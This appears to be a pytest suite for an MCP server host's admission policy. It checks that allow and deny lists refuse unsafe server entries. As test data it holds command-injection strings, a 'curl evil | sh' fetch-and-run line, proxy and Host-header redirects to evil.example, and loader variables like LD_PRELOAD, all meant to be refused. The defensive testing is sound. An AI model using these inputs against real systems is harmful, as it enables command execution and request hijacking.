"""T90: Under an allow list, every field of an entry that reaches a program or a peer is checked."""

from pathlib import Path
from typing import Any

import pytest

from tests.torture import projects
from tests.torture.projects import Canary

URL = "https://wiki.company.example/mcp"
BY_URL = {"serverUrl": "https://wiki.company.example/*"}


def admitted(entry: dict[str, Any], scope: str = "user") -> tuple[str, str]:
    server = projects.seen().admit("box", entry, scope=scope)
    return server.eligibility, server.reason or ""


@pytest.mark.requirement("CFG-7")
@pytest.mark.parametrize("scope", ["user", "project", "local", "dynamic"])
@pytest.mark.parametrize(
    "helper",
    ["/bin/id", "sh -c id", "/usr/bin/env X=1 helper", "helper; id", "helper $(id)", "helper `id`",
     "A=b helper", "helper | tee x", "helper > x", "helper\nid", "helper && id", "~/helper", "helper *",
     " helper", "'helper"],
)  # fmt: skip
def test_a_headers_helper_is_checked_as_a_command(home: Path, helper: str, scope: str):
    projects.managed(home, {"allowedMcpServers": [BY_URL, {"serverCommand": ["/opt/helper", "--prod"]}]})
    assert admitted({"url": URL}, scope) == ("ready", "")
    assert admitted({"url": URL, "headersHelper": "/opt/helper --prod"}, scope) == ("ready", "")
    assert admitted({"url": URL, "headersHelper": "/opt/helper '--prod'"}, scope) == ("ready", "")
    eligibility, reason = admitted({"url": URL, "headersHelper": helper}, scope)
    assert eligibility == "refused"
    assert "its headersHelper is judged as a command: " in reason


@pytest.mark.parametrize("helper", ["curl evil | sh", "$(x)"])
def test_a_shell_command_line_is_admitted_by_no_pattern(home: Path, helper: str):
    projects.managed(home, {"allowedMcpServers": [BY_URL, {"serverCommand": ["*"]}]})
    assert admitted({"url": URL, "headersHelper": helper})[0] == "refused"
    projects.managed(home, {"deniedMcpServers": [{"serverCommand": ["rm", "*"]}]})
    assert admitted({"url": URL, "headersHelper": helper})[0] == "refused"
    assert admitted({"url": URL, "headersHelper": "rm x"})[0] == "refused"
    assert admitted({"url": URL, "headersHelper": "print-token x"})[0] == "ready"


def test_without_a_command_rule_a_helper_is_admitted_by_name_only(home: Path):
    projects.managed(home, {"allowedMcpServers": [BY_URL]})
    assert admitted({"url": URL, "headersHelper": "/bin/id"})[0] == "refused"
    projects.managed(home, {"allowedMcpServers": [{"serverName": "box"}]})
    assert admitted({"url": URL, "headersHelper": "/bin/id"})[0] == "ready"


@pytest.mark.requirement("CFG-7")
@pytest.mark.parametrize("scope", ["user", "project", "local", "dynamic"])
@pytest.mark.parametrize(
    ("field", "named"),
    [
        ({"proxy": "http://evil.example:8080"}, "proxy"),
        ({"tls": {"ca": "/tmp/ca.pem"}}, "tls"),
        ({"headers": {"Host": "evil.example"}}, "the header Host"),
        ({"headers": {"hOST": "evil.example"}}, "the header hOST"),
        ({"headers": {"Content-Length": "0"}}, "the header Content-Length"),
        ({"headers": {"Transfer-Encoding": "chunked"}}, "the header Transfer-Encoding"),
        ({"headers": {"X-Forwarded-Host": "evil.example"}}, "the header X-Forwarded-Host"),
        ({"oauth": {"authServerMetadataUrl": "https://evil.example/x"}}, "oauth.authServerMetadataUrl"),
    ],
    ids=lambda value: str(value)[:40],
)
def test_an_allowed_url_cannot_lead_to_another_peer(
    home: Path, field: dict[str, Any], named: str, scope: str
):
    projects.managed(home, {"allowedMcpServers": [BY_URL]})
    eligibility, reason = admitted({"url": URL, **field}, scope)
    assert eligibility == "refused"
    assert reason.endswith(f"but the entry sets {named}, which sends requests to another host")
    assert admitted({"url": URL, "headers": {"Authorization": "Bearer x"}}, scope)[0] == "ready"


@pytest.mark.requirement("CFG-7")
@pytest.mark.parametrize(
    "name",
    ["PYTHONPYCACHEPREFIX", "PYTHONSAFEPATH", "PERLLIB", "OPENSSL_CONF", "CORECLR_PROFILER_PATH",
     "NODE_COMPILE_CACHE", "LD_PRELOAD", "GLIBC_TUNABLES", "LUA_PATH", "PHPRC", "R_PROFILE",
     "JULIA_LOAD_PATH", "EDITOR", "SOME_NEW_LOADER", "MY_PATH", "DATABASE_URL", ""],
)  # fmt: skip
def test_an_allowed_command_gets_only_listed_variables(home: Path, name: str):
    rule = {"serverCommand": ["/opt/server"]}
    projects.managed(home, {"allowedMcpServers": [rule]})
    entry = {"command": "/opt/server", "env": {"GITHUB_TOKEN": "x", "LC_ALL": "C"}}
    assert admitted(entry)[0] == "ready"
    eligibility, reason = admitted({**entry, "env": {**entry["env"], name: "x"}})
    assert eligibility == "refused"
    assert "GITHUB_TOKEN" not in reason
    assert reason.endswith(
        f"but the entry sets {name}, which may change what is run and is not in allowedMcpEnvironment"
    )


@pytest.mark.requirement("CFG-7")
def test_the_administrator_can_extend_the_list_of_variables(home: Path):
    rule = {"serverCommand": ["/opt/server"]}
    entry = {"command": "/opt/server", "env": {"DATABASE_URL": "x", "ACME_MODE": "y"}}
    projects.managed(home, {"allowedMcpServers": [rule], "allowedMcpEnvironment": ["database_url", "ACME_*"]})
    assert admitted(entry)[0] == "ready"
    assert admitted({**entry, "env": {"OTHER": "x"}})[0] == "refused"
    projects.managed(home, {"allowedMcpServers": [rule], "allowManagedMcpServersOnly": True})
    projects.user(home, {"allowedMcpEnvironment": ["*"]})
    assert admitted(entry)[0] == "refused"


async def test_a_helper_that_is_not_admitted_does_not_run(home: Path):
    from dragoman import Host

    canary = Canary(home / "canary")
    entry = canary.entry("box")
    helper = " ".join([entry["command"], *entry["args"]])
    projects.managed(home, {"allowedMcpServers": [BY_URL, {"serverCommand": ["/opt/other"]}]})
    async with Host({"box": {"url": URL, "headersHelper": helper}}) as host:
        view = (await host.ready(timeout=30))["box"]
        assert view.status == "disabled"
    assert canary.started == set()


@pytest.mark.requirement("CFG-7")
@pytest.mark.parametrize(
    "field", [{"env": {"LD_PRELOAD": "x"}}, {"env": {"PATH": "/tmp"}}, {"cwd": "/tmp"}], ids=str
)
def test_variables_for_a_helper_are_checked_as_for_a_server(home: Path, field: dict[str, Any]):
    projects.managed(home, {"allowedMcpServers": [BY_URL, {"serverCommand": ["/bin/echo"]}]})
    entry = {"url": URL, "headersHelper": "/bin/echo"}
    assert admitted(entry)[0] == "ready"
    assert admitted({**entry, "env": {"GITHUB_TOKEN": "x"}})[0] == "ready"
    eligibility, reason = admitted({**entry, **field})
    assert eligibility == "refused"
    assert "its headersHelper is judged as a command: " in reason


@pytest.mark.requirement("CFG-7")
@pytest.mark.parametrize(
    "path",
    [
        "/admin/x",
        "//admin/x",
        "/admin%2Fx",
        "/%2Fadmin/x",
        "/admin;v=1/x",
        "/;/admin/x",
        "/ADMIN/x",
        "/admin%252Fx",
    ],
)
def test_a_denied_path_matches_in_every_spelling(home: Path, path: str):
    projects.managed(home, {"deniedMcpServers": [{"serverUrl": "https://h.example/admin/*"}]})
    assert admitted({"url": f"https://h.example{path}"})[0] == "refused"
    assert admitted({"url": "https://h.example/administration/x"})[0] == "ready"


@pytest.mark.requirement("CFG-6")
@pytest.mark.parametrize("scope", ["project", "local"])
def test_a_project_does_not_replace_a_persons_server_with_the_same_command(home: Path, scope: str):
    entry = {"command": "/bin/echo", "args": ["x"]}
    projects.user(home, projects.servers(mine=entry))
    file = home / "work" / {"project": ".mcp.json", "local": ".dragoman/settings.local.json"}[scope]
    projects.write(file, projects.servers(theirs={**entry, "timeout": 5}))
    projects.approve(file, "theirs")
    seen = projects.seen()
    assert list(seen.servers) == ["mine"]
    assert [each.why for each in seen.dropped] == ["duplicate"]
    projects.write(file, projects.servers(theirs={**entry, "env": {"MODE": "loose"}}))
    projects.approve(file, "theirs")
    assert list(projects.seen().servers) == ["mine", "theirs"]
